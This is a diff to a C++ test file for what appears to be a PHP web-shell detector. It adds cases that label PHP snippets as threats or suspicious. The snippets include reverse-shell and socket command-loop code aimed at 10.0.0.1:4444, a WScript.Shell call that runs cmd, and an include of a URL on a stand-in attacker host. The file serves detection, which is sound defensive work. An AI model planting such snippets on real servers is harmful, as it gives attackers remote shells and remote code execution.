@@ -109,6 +109,14 @@ TEST_F(DefaultRules, TechniqueVerdicts) {
        "<?php $s = fsockopen('10.0.0.1', 4444);\n"
        "proc_open('/bin/sh -i', array($s, $s, $s), $p);",
        Verdict::Threat},
+      {"commands over a connection",
+       "<?php $s = fsockopen('10.0.0.1', 4444);\n"
+       "while (!feof($s)) { fputs($s, shell_exec(fgets($s))); }",
+       Verdict::Threat},
+      {"windows shell object", "<?php $w = new COM('WScript.Shell'); $w->Run('cmd');",
+       Verdict::Threat},
+      {"database server the request names", "<?php mysql_connect($_POST['host'], 'root', '');",
+       Verdict::Suspicious},
       // Code loaded from the request or the network.
       {"include of a request path", "<?php include $_GET['page'];", Verdict::Threat},
       {"include of a URL", "<?php include 'http://evil.example/x.txt';", Verdict::Threat},
